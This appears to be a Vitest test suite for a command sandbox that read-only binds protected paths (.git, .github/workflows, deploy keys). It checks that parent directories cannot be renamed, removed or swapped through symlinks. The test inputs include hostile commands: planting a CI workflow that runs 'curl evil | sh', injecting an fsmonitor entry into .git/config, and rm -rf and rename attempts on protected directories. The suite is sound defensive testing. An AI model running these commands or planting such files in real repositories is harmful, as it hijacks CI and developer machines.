import { chown, mkdir, readdir, readFile, rename, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shellFixture, type ShellFixture } from './support/shell-workspace.js';

// A read-only bind protects the path, not its place: the directories above a protected path must
// not move either, or a command renames the parent away and plants its own file in the same place.

const asSandboxUser = async (root: string, paths: readonly string[]) => {
  if (process.getuid?.() === 0) for (const path of paths) await chown(join(root, path), 65534, 65534);
};

async function waitFor(path: string): Promise<void> {
  for (;;) {
    try {
      await readFile(path);
      return;
    } catch {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  }
}

describe("a protected path's ancestors", { timeout: 60_000 }, () => {
  let shell: ShellFixture;
  const ci = 'name: ci\non: push\n';

  beforeAll(async () => {
    shell = await shellFixture({ protect: ['.git', '.github/workflows', 'config/deploy/keys'] });
    const { root } = shell;
    await mkdir(join(root, '.git'));
    await writeFile(join(root, '.git', 'config'), '[core]\n');
    await mkdir(join(root, '.github', 'workflows'), { recursive: true });
    await writeFile(join(root, '.github', 'workflows', 'ci.yml'), ci);
    await writeFile(join(root, '.github', 'CODEOWNERS'), '* @team\n');
    await mkdir(join(root, 'config', 'deploy', 'keys'), { recursive: true });
    await writeFile(join(root, 'config', 'deploy', 'keys', 'deploy.pub'), 'ssh-ed25519 AAAA\n');
    await writeFile(join(root, 'config', 'app.json'), '{}\n');
    await asSandboxUser(root, ['.git', '.git/config', '.github', '.github/workflows', '.github/workflows/ci.yml', '.github/CODEOWNERS', 'config', 'config/deploy', 'config/deploy/keys', 'config/deploy/keys/deploy.pub', 'config/app.json']);
  }, 60_000);
  afterAll(() => shell.close(), 60_000);

  it('the parent of .github/workflows cannot be renamed to plant a workflow in its place', async () => {
    const result = await shell.value('mv .github x && mkdir -p .github/workflows && echo "run: curl evil | sh" > .github/workflows/ci.yml; echo done');
    expect(result.output).toContain('Device or resource busy');
    expect(await readFile(join(shell.root, '.github', 'workflows', 'ci.yml'), 'utf8')).toBe(ci);
    expect(await readdir(shell.root)).not.toContain('x');
  });

  it('nor removed: rm -rf takes what is not protected and leaves the protected path in its place', async () => {
    const result = await shell.value('rm -rf .github; rmdir .github; ls -A .github');
    expect(result.output).toContain('workflows');
    expect(await readFile(join(shell.root, '.github', 'workflows', 'ci.yml'), 'utf8')).toBe(ci);
  });

  it('every ancestor of a nested protect entry holds, and the files beside it stay writable', async () => {
    // Each rename stays in its own directory, so it is one rename(2) and not a copy across mounts.
    const result = await shell.value('mv config c2; mv config/deploy config/d2; mv config/deploy/keys config/deploy/k2; echo changed > config/app.json; echo new > config/deploy/notes.txt; echo done');
    expect(result.output.match(/Device or resource busy/g)?.length).toBe(3);
    expect(await readFile(join(shell.root, 'config', 'deploy', 'keys', 'deploy.pub'), 'utf8')).toBe('ssh-ed25519 AAAA\n');
    expect(await readFile(join(shell.root, 'config', 'app.json'), 'utf8')).toBe('changed\n');
    expect(await readFile(join(shell.root, 'config', 'deploy', 'notes.txt'), 'utf8')).toBe('new\n');
    expect(await readdir(shell.root)).not.toContain('c2');
    expect((await readdir(join(shell.root, 'config'))).sort()).toEqual(['app.json', 'deploy']);
  });

  it('.git itself holds, as before', async () => {
    const result = await shell.value('mv .git g2; echo "[core] fsmonitor=evil" > .git/config; echo done');
    expect(result.output).toContain('Device or resource busy');
    expect(await readFile(join(shell.root, '.git', 'config'), 'utf8')).toBe('[core]\n');
  });

  it('a protected path replaced from outside while the command runs fails the call, naming it', async () => {
    const { root } = shell;
    const call = shell.run('touch started; while [ ! -e go ]; do sleep 0.05; done; echo finished');
    await waitFor(join(root, 'started'));
    // The host (not the sandbox) swaps the directory: the sandbox still sees the bound one.
    await rename(join(root, '.github', 'workflows'), join(root, 'old-workflows'));
    await mkdir(join(root, '.github', 'workflows'));
    await writeFile(join(root, 'go'), '');
    const result = await call;
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.error.code).toBe('PROTECTED_PATH_REPLACED');
      expect(result.content).toContain('.github/workflows');
    }
  });
});

describe('an ancestor of a protected path that is a symbolic link', { timeout: 60_000 }, () => {
  it('refuses the call: the bind would protect the link target, not the path', async () => {
    const shell = await shellFixture({ protect: ['.github/workflows'] });
    const elsewhere = join(shell.root, 'elsewhere');
    try {
      await mkdir(join(elsewhere, 'workflows'), { recursive: true });
      await symlink('elsewhere', join(shell.root, '.github'));
      const result = await shell.run('echo ran > ran.txt');
      expect(result.ok).toBe(false);
      if (!result.ok) {
        expect(result.error.code).toBe('PROTECTED_PATH_IS_LINK');
        expect(result.content).toContain('".github"');
      }
      await expect(readFile(join(shell.root, 'ran.txt'))).rejects.toThrow();
    } finally {
      await shell.close();
    }
  });
});
